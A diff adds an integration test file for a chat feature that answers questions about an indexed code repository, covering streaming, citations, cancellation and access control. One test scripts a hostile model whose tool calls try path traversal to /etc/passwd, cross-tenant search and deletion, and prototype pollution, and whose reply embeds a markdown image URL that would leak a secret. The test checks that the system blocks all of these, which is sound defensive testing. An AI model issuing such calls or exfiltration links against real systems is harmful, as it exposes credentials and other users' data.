@@ -1,0 +1,389 @@
+import type { ChatSession } from "@cairn/contract/chat";
+import { applyOperation, type MessageOperation } from "@cairn/contract/chat-events";
+import { and, eq } from "drizzle-orm";
+import { afterAll, beforeAll, expect, it } from "vitest";
+
+import { updateIndex } from "../../code-index/update-index.ts";
+import type { Ctx } from "../../ctx.ts";
+import { members } from "../../platform/db/tables/organizations.ts";
+import { cloneMirror } from "../../platform/git/clone-mirror.ts";
+import { createMirrorSource } from "../../platform/git/mirror-source.ts";
+import { connectModel } from "../../platform/models/connect-model.ts";
+import type { ModelEvent, ModelPort } from "../../platform/models/model-port.ts";
+import { readSettings } from "../../platform/settings/read-settings.ts";
+import { startModelServer } from "../../testing/fakes/model-server.ts";
+import { createTestRepository } from "../../testing/git-repository.ts";
+import {
+  createTestWorld,
+  makeMember,
+  makeProject,
+  makeRepository,
+  makeUser,
+  type TestWorld,
+} from "../../testing/test-ctx.ts";
+import { searchTools } from "../search/search.tools.ts";
+import { askOnce } from "./ask-once.ts";
+import { ask } from "./ask.ts";
+import { cancelAnswer } from "./cancel-answer.ts";
+import { createChatStreams, type ChatNews, type ChatStreams } from "./chat-streams.ts";
+import { deleteChat } from "./delete-chat.ts";
+import { endAbandonedAnswers } from "./end-abandoned-answers.ts";
+import { getChat } from "./get-chat.ts";
+import { listChats } from "./list-chats.ts";
+
+let world: TestWorld;
+let project: Awaited<ReturnType<typeof makeProject>>;
+
+const delay = `/** Minutes a boat is late; never negative. */
+export function delayMinutes(planned: number, actual: number): number {
+  return Math.max(0, actual - planned);
+}
+`;
+
+beforeAll(async () => {
+  world = await createTestWorld();
+  project = await makeProject(world);
+  await indexFiles({
+    "src/delay.ts": delay,
+    "README.md": "# Board\n\nShows which boat leaves next, and how late it is.\n",
+  });
+});
+afterAll(() => world.close());
+
+/** A repository of the project with these files, cloned and indexed for real. */
+async function indexFiles(files: Record<string, string>): Promise<void> {
+  const repository = await createTestRepository();
+  const commit = await repository.commit("First", files);
+  const { repositoryId } = await makeRepository(world, project, { path: repository.path });
+  const directory = world.ctx.mirrors.directory(repositoryId);
+  await cloneMirror({
+    directory,
+    remote: { kind: "path", path: repository.path },
+    egress: world.ctx.egress,
+    maxBytes: 10_000_000,
+    signal: world.ctx.signal,
+  });
+  await updateIndex({
+    directory: world.ctx.indexes.directory(repositoryId),
+    source: createMirrorSource(directory),
+    commit,
+  });
+  await repository.remove();
+}
+
+const question = "How is the delay of a boat computed?";
+
+function request(content = question, given: { sessionId?: string } = {}) {
+  return {
+    organizationId: project.organizationId,
+    sessionId: given.sessionId ?? world.ctx.newId(),
+    request: { type: "text" as const, content },
+    context: { projectId: project.projectId, lens: "technical" as const },
+  };
+}
+
+/** Hears everything and can wait for the end of an answer. */
+function hear(streams: ChatStreams) {
+  const news: ChatNews[] = [];
+  const waiting: { wanted: (one: ChatNews) => boolean; resolve: () => void }[] = [];
+  streams.listen((one) => {
+    news.push(one);
+    for (const { wanted, resolve } of waiting) if (wanted(one)) resolve();
+  });
+  const until = async (wanted: (one: ChatNews) => boolean): Promise<void> => {
+    if (news.some(wanted)) return;
+    const { promise, resolve } = Promise.withResolvers<void>();
+    waiting.push({ wanted, resolve });
+    await promise;
+  };
+  const operations = (): MessageOperation[] => news.flatMap((one) => (one.type === "operations" ? one.operations : []));
+  return { news, until, operations, ended: () => until((one) => one.type !== "operations") };
+}
+
+function rebuild(operations: readonly MessageOperation[]): ChatSession {
+  const empty = {
+    sessionId: operations[0]?.sessionId ?? "",
+    title: "",
+    messages: [],
+    data: null,
+    context: { lens: "technical" as const },
+    isStreaming: false,
+    isComplete: false,
+    isError: false,
+    error: null,
+    loadingText: null,
+    updatedAt: "",
+  };
+  return operations.reduce<ChatSession>((session, operation) => applyOperation(session, operation), empty);
+}
+
+/** A model that says what the test lets through, piece by piece. */
+function scriptedModel(): ModelPort & { say(event: ModelEvent | Error): void } {
+  const queue: (ModelEvent | Error)[] = [];
+  let wake = Promise.withResolvers<void>();
+  return {
+    name: "test-model",
+    say(event) {
+      queue.push(event);
+      wake.resolve();
+    },
+    async *stream({ signal }) {
+      const stopped = new Promise<never>((_, reject) => {
+        signal.addEventListener("abort", () => reject(signal.reason as Error), { once: true });
+      });
+      stopped.catch(() => undefined);
+      while (true) {
+        const event = queue.shift();
+        if (event instanceof Error) throw event;
+        if (event) yield event;
+        if (event?.type === "finish") return;
+        if (event) continue;
+        await Promise.race([wake.promise, stopped]);
+        wake = Promise.withResolvers();
+      }
+    },
+  };
+}
+
+it("answers from the code, and GET equals all operations in order at every moment", async () => {
+  const streams = createChatStreams();
+  const heard = hear(streams);
+  const input = request();
+  await ask(project.ctx, { ...input, streams, tools: [] });
+  await heard.ended();
+  const session = await getChat(project.ctx, input);
+  expect(rebuild(heard.operations())).toEqual(session);
+  expect(session).toMatchObject({ title: question, isStreaming: false, isComplete: true, isError: false, error: null });
+  const answer = session.messages[1];
+  expect(answer).toMatchObject({ role: "assistant", writtenBy: "Built-in engine", droppedCitations: 0 });
+  expect(answer?.content).toContain("delayMinutes");
+  expect(answer?.content).toMatch(/\[1\]/);
+  expect(answer?.sources[0]).toMatchObject({ path: "src/delay.ts" });
+  expect(answer?.thoughts[0]?.functionCalls.every(({ durationMs }) => durationMs !== null)).toBe(true);
+});
+
+it("never shows less by GET than a listener was told", async () => {
+  const streams = createChatStreams();
+  const model = scriptedModel();
+  const ctx: Ctx = { ...project.ctx, model };
+  const input = request();
+  const heard = hear(streams);
+  await ask(ctx, { ...input, streams, tools: searchTools });
+  for (const word of ["One", "two", "three", "four"]) {
+    model.say({ type: "text", text: ` ${word}` });
+    await heard.until(
+      (one) =>
+        one.type === "operations" &&
+        one.operations.some(({ value }) => typeof value === "string" && value.includes(word)),
+    );
+    const told = rebuild(heard.operations()).messages[1]?.content ?? "";
+    expect((await getChat(ctx, input)).messages[1]?.content.startsWith(told)).toBe(true);
+  }
+  model.say({ type: "finish", inputTokens: 1, outputTokens: 1 });
+  await heard.ended();
+  expect((await getChat(ctx, input)).messages[1]).toMatchObject({
+    content: " One two three four",
+    writtenBy: "test-model",
+  });
+});
+
+it("checks a model's citations against the code and drops what names nothing", async () => {
+  const streams = createChatStreams();
+  const model = scriptedModel();
+  const heard = hear(streams);
+  const input = request();
+  await ask({ ...project.ctx, model }, { ...input, streams, tools: searchTools });
+  model.say({ type: "text", text: "It is `actual - planned` [1], or else [7" });
+  model.say({ type: "text", text: "7].\u0000" });
+  model.say({ type: "finish", inputTokens: 1, outputTokens: 1 });
+  await heard.ended();
+  const answer = (await getChat(project.ctx, input)).messages[1];
+  expect(answer?.content).toBe("It is `actual - planned` [1], or else.\uFFFD");
+  expect(answer?.sources).toHaveLength(1);
+  expect(answer?.droppedCitations).toBe(1);
+});
+
+it("keeps the partial text after a failure until the same question is asked again", async () => {
+  const streams = createChatStreams();
+  const model = scriptedModel();
+  const heard = hear(streams);
+  const input = request();
+  await ask({ ...project.ctx, model }, { ...input, streams, tools: [] });
+  model.say({ type: "text", text: "Half an ans" });
+  model.say(new Error("secret internals"));
+  await heard.ended();
+  expect(heard.news.at(-1)).toMatchObject({ type: "failed", message: "An unknown error occurred" });
+  const failed = await getChat(project.ctx, input);
+  expect(failed).toMatchObject({ isError: true, error: "An unknown error occurred", isStreaming: false });
+  expect(failed.messages[1]?.content).toBe("Half an ans");
+  const again = hear(streams);
+  await ask(project.ctx, { ...input, streams, tools: [] });
+  await again.ended();
+  const session = await getChat(project.ctx, input);
+  expect(session).toMatchObject({ isError: false, error: null, isComplete: true });
+  expect(session.messages).toHaveLength(2);
+  expect(session.messages[1]?.content).toContain("delayMinutes");
+});
+
+it("continues a chat: what was asked before gives `it` its meaning", async () => {
+  const streams = createChatStreams();
+  const input = request("How does delayMinutes work?");
+  const first = hear(streams);
+  await ask(project.ctx, { ...input, streams, tools: [] });
+  await first.ended();
+  const second = hear(streams);
+  await ask(project.ctx, { ...request("Where is it?", input), streams, tools: [] });
+  await second.ended();
+  const session = await getChat(project.ctx, input);
+  expect(session.messages).toHaveLength(4);
+  expect(session.messages[3]?.content).toContain("src/delay.ts");
+});
+
+it("lets one of several questions at once start, and stops on demand", async () => {
+  const streams = createChatStreams();
+  const model = scriptedModel();
+  const ctx: Ctx = { ...project.ctx, model };
+  const input = request();
+  const heard = hear(streams);
+  const asked = Array.from({ length: 4 }, () => ask(ctx, { ...input, streams, tools: [] }));
+  const settled = await Promise.allSettled(asked);
+  expect(settled.filter(({ status }) => status === "fulfilled")).toHaveLength(1);
+  for (const one of settled) if (one.status === "rejected") expect(one.reason).toMatchObject({ code: "conflict" });
+  await cancelAnswer(ctx, { sessionId: input.sessionId, streams });
+  await heard.ended();
+  expect(heard.news.at(-1)?.type).toBe("completed");
+  expect(await getChat(ctx, input)).toMatchObject({ isStreaming: false, isComplete: true, isError: false });
+});
+
+it("stops the answer of another process through the database", async () => {
+  const theirs = createChatStreams();
+  const model = scriptedModel();
+  const ctx: Ctx = { ...project.ctx, model };
+  const input = request();
+  const heard = hear(theirs);
+  await ask(ctx, { ...input, streams: theirs, tools: [] });
+  await cancelAnswer(ctx, { sessionId: input.sessionId, streams: createChatStreams() });
+  model.say({ type: "text", text: "too late" });
+  await heard.ended();
+  const session = await getChat(ctx, input);
+  expect(session).toMatchObject({ isStreaming: false, isComplete: true });
+  expect(session.messages[1]?.content).toBe("");
+  expect(JSON.stringify(heard.operations())).not.toContain("too late");
+});
+
+it("ends what a process that is gone was answering, and lets the question be asked again", async () => {
+  const gone = createChatStreams();
+  const model = scriptedModel();
+  const input = request();
+  await ask({ ...project.ctx, model }, { ...input, streams: gone, tools: [] });
+  const streams = createChatStreams();
+  expect(await endAbandonedAnswers(world.ctx, { streams, silentMs: 60_000 })).toBe(0);
+  expect(await endAbandonedAnswers(world.ctx, { streams: gone, silentMs: 0 })).toBe(0);
+  expect(await endAbandonedAnswers(world.ctx, { streams, silentMs: 0 })).toBe(1);
+  const session = await getChat(project.ctx, input);
+  expect(session).toMatchObject({ isStreaming: false, isError: true });
+  expect(session.error).toContain("Retry");
+  const heard = hear(streams);
+  await ask(project.ctx, { ...input, streams, tools: [] });
+  await heard.ended();
+  expect((await getChat(project.ctx, input)).isComplete).toBe(true);
+  gone.cancel(input.sessionId);
+});
+
+it("is private to its user and gone for everybody once deleted", async () => {
+  const streams = createChatStreams();
+  const heard = hear(streams);
+  const input = request();
+  await ask(project.ctx, { ...input, streams, tools: [] });
+  await heard.ended();
+  const colleague = await makeUser(world);
+  await makeMember(world, project.organizationId, colleague.userId, "owner");
+  const missing = { code: "not_found", message: "Chat not found: The chat you are trying to access does not exist" };
+  await expect(getChat(colleague.ctx, input)).rejects.toMatchObject(missing);
+  await expect(ask(colleague.ctx, { ...input, streams, tools: [] })).rejects.toMatchObject(missing);
+  await expect(deleteChat(colleague.ctx, { ...input, streams })).rejects.toMatchObject(missing);
+  await expect(cancelAnswer(colleague.ctx, { sessionId: input.sessionId, streams })).rejects.toMatchObject(missing);
+  const page = { page: 1, limit: 100, organizationId: project.organizationId };
+  expect((await listChats(colleague.ctx, page)).total).toBe(0);
+  expect((await listChats(project.ctx, page)).content.map(({ sessionId }) => sessionId)).toContain(input.sessionId);
+  await deleteChat(project.ctx, { ...input, streams });
+  await expect(getChat(project.ctx, input)).rejects.toMatchObject(missing);
+});
+
+it("refuses strangers, foreign products and questions without a product", async () => {
+  const streams = createChatStreams();
+  const stranger = await makeUser(world);
+  const foreign = await makeProject(world);
+  await expect(ask(stranger.ctx, { ...request(), streams, tools: [] })).rejects.toMatchObject({ code: "not_found" });
+  const mixed = { ...request(), context: { projectId: foreign.projectId, lens: "technical" as const } };
+  await expect(ask(project.ctx, { ...mixed, streams, tools: [] })).rejects.toMatchObject({ code: "not_found" });
+  const none = { ...request(), context: { lens: "technical" as const } };
+  await expect(ask(project.ctx, { ...none, streams, tools: [] })).rejects.toMatchObject({ code: "invalid_input" });
+});
+
+it("cuts the answer of somebody who was removed, and tells them nothing more", async () => {
+  const streams = createChatStreams();
+  const model = scriptedModel();
+  const member = await makeUser(world);
+  await makeMember(world, project.organizationId, member.userId, "editor");
+  const heard = hear(streams);
+  const input = request();
+  await ask({ ...member.ctx, model }, { ...input, streams, tools: [] });
+  const isMember = and(eq(members.organizationId, project.organizationId), eq(members.userId, member.userId));
+  await world.ctx.db.delete(members).where(isMember);
+  await heard.until((one) => one.type === "revoked");
+  model.say({ type: "text", text: "secret" });
+  await streams.stop();
+  expect(JSON.stringify(heard.news)).not.toContain("secret");
+  expect(streams.isRunning(input.sessionId)).toBe(false);
+});
+
+it("stands a model that does what an attacker wants", async () => {
+  const server = await startModelServer();
+  const foreign = await makeProject(world);
+  const call = (name: string, input: object) => ({ id: "same", name, arguments: JSON.stringify(input) });
+  server.script([
+    {
+      kind: "tool-calls",
+      calls: [
+        call("read_file", { path: "../../../etc/passwd" }),
+        call("search_code", { query: "delay", organizationId: foreign.organizationId, projectId: foreign.projectId }),
+        call("delete_chat", { sessionId: foreign.projectId }),
+        call("find_symbol", { name: "delayMinutes", __proto__: { polluted: true } }),
+      ],
+    },
+    { kind: "text", pieces: ["It is late [1", "], or ![](http://127.0.0.66/?d=SECRET) [99]."] },
+  ]);
+  const models = readSettings({
+    MODEL_PROVIDER: "openai-compatible",
+    MODEL_NAME: "evil",
+    MODEL_BASE_URL: server.baseUrl,
+  }).models;
+  const streams = createChatStreams();
+  const heard = hear(streams);
+  const input = request();
+  await ask({ ...project.ctx, model: connectModel(models) }, { ...input, streams, tools: searchTools });
+  await heard.ended();
+  const session = await getChat(project.ctx, input);
+  expect(session).toMatchObject({ isComplete: true, isError: false });
+  expect(session.messages[1]).toMatchObject({
+    content: "It is late [1], or !\\[](http://127.0.0.66/?d=SECRET).",
+    droppedCitations: 1,
+  });
+  expect(session.messages[1]?.sources).toHaveLength(1);
+  const seen = JSON.stringify(server.requests.map(({ body }) => body.messages));
+  expect(seen).toContain("The indexed commit holds no such file");
+  expect(seen).not.toContain("root:");
+  await server.close();
+});
+
+it("answers agents in one piece with sources and the commit they stand at", async () => {
+  const agent = world.as({ kind: "agent", userId: project.owner.userId });
+  const { organizationId, projectId } = project;
+  const result = await askOnce(agent, { organizationId, projectId, question, lens: "technical", tools: [] });
+  expect(result.text).toContain("delayMinutes");
+  expect(result.data).toMatchObject({
+    writtenBy: "Built-in engine",
+    repositories: [{ commit: expect.any(String), indexedAt: expect.any(String) }],
+  });
+});
